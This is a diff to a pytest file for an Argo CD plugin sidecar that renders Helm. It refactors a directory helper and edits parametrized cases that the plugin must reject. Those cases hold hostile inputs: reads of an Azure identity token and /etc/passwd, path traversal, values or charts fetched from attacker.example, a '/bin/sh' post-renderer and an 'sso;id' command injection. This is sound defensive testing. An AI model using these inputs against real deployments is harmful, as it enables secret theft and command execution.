@@ -106,9 +106,11 @@ def phase_argv(plugin: dict[str, Any], phase: str, shell: str | None = None) -> 
     return argv
 
 
-def make_app_dir(tmp_path: Path, files: dict[str, Path | str]) -> Path:
-    app = tmp_path / "repo" / "examples" / "app"
-    app.mkdir(parents=True)
+def make_app_dir(tmp_path: Path, files: dict[str, Path | str], source_path: str = "") -> Path:
+    """The application directory as argocd-cmp-server lays it out: ROOT/<spec.source.path>,
+    ROOT being tmp_path/repo (the unpacked repository)."""
+    app = tmp_path / "repo" / (source_path or application()["spec"]["source"]["path"])
+    app.mkdir(parents=True, exist_ok=True)
     for name, content in files.items():
         target = app / name
         if isinstance(content, Path):
@@ -224,20 +226,6 @@ def assert_rendered_example(stdout: str, stderr: str) -> None:
 
     for value in values.values():
         assert value not in stderr, "a secret value leaked to stderr"
-
-
-@pytest.fixture
-def avp_py_dir() -> Path:
-    """The directory holding the installed `avp-py` console script."""
-    for candidate in (Path(sys.executable).parent, *map(Path, os.get_exec_path())):
-        if (candidate / "avp-py").is_file():
-            return candidate
-    pytest.fail("the avp-py console script is not installed (pip install -e .)")
-
-
-@pytest.fixture
-def sidecar(tmp_path: Path, avp_py_dir: Path) -> Sidecar:
-    return Sidecar(tmp_path, avp_py_dir)
 
 
 def example_app(tmp_path: Path) -> Path:
@@ -446,7 +434,7 @@ def test_empty_helm_output_is_an_error(sidecar: Sidecar, tmp_path: Path) -> None
             "--set-file token=/var/run/secrets/azure/tokens/azure-identity-token",
         ),
         ("ARGOCD_ENV_HELM_ARGS", "-f /var/run/secrets/azure/tokens/azure-identity-token"),
-        ("ARGOCD_ENV_HELM_ARGS", "--values=../../other-app/values.yaml"),
+        ("ARGOCD_ENV_HELM_ARGS", "--values=../../../other-app/values.yaml"),
         ("ARGOCD_ENV_HELM_ARGS", "-f https://attacker.example/values.yaml"),
         ("ARGOCD_ENV_HELM_ARGS", "--values=oci:attacker.example/values"),
         ("ARGOCD_ENV_HELM_ARGS", "--repo https://attacker.example/charts"),
@@ -455,7 +443,7 @@ def test_empty_helm_output_is_an_error(sidecar: Sidecar, tmp_path: Path) -> None
         ("ARGOCD_ENV_HELM_ARGS", "--set"),
         ("ARGOCD_ENV_HELM_ARGS", "*"),
         ("ARGOCD_ENV_HELM_VALUES_FILES", "/etc/passwd"),
-        ("ARGOCD_ENV_HELM_VALUES_FILES", "values.yaml,charts/../../x.yaml"),
+        ("ARGOCD_ENV_HELM_VALUES_FILES", "values.yaml,charts/../../../../x.yaml"),
         ("ARGOCD_ENV_HELM_VALUES_FILES", "-"),
         ("ARGOCD_ENV_HELM_RELEASE_NAME", "--post-renderer=/bin/sh"),
         ("ARGOCD_ENV_HELM_RELEASE_NAME", "sso;id"),
